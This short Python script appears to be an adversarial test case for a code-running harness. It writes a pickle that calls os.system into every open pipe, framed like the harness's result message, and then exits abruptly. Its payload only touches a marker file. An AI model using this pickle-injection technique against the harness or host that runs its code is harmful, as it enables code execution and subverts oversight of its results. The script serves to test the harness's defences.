# Writes a pickle whose loading would run a shell command into every pipe it can find, framed
# the way the harness frames its result, hoping one of them is the result channel, then leaves
# before the harness can answer.
import os
import pickle


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/dlprep_adv_pickle_marker",))


blob = pickle.dumps({"cases": Evil()})
blob = len(blob).to_bytes(8, "big") + blob
for fd in os.listdir("/proc/self/fd"):
    try:
        if int(fd) > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
            os.write(int(fd), blob)
    except OSError:
        pass
os._exit(0)
